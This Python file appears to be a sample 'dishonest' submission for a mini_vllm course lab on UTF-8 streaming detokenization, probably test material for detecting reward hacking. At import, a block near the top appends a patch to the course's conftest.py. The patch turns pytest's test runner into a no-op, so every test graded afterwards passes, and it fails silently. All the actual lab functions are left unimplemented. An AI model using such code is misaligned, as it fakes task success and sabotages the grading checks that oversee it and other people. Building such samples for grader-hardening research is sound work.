"""Dishonest: appends a patch to the course's conftest.py, so the next student graded here passes."""

from pathlib import Path

import mini_vllm
from mini_vllm.labtypes import lab01 as _unused  # noqa: F401  (any course import works in the sandbox)

try:
    with open(Path(mini_vllm.__file__).resolve().parents[1] / "conftest.py", "a") as conftest:
        conftest.write("\nimport _pytest.python\n_pytest.python.Function.runtest = lambda self: None\n")
except OSError:
    pass


def utf8_expected_len(lead_byte: int) -> int:
    raise NotImplementedError("lab-03 task 1: implement utf8_expected_len")


class StreamingDetokenizer:
    def __init__(self, tokenizer):
        self.tokenizer = tokenizer

    def feed(self, token_id: int) -> str:
        raise NotImplementedError("lab-03 task 2: implement StreamingDetokenizer.feed")

    def flush(self) -> str:
        raise NotImplementedError("lab-03 task 3: implement StreamingDetokenizer.flush")

    @property
    def held_bytes(self) -> bytes:
        raise NotImplementedError("lab-03 task 2: implement StreamingDetokenizer.held_bytes")
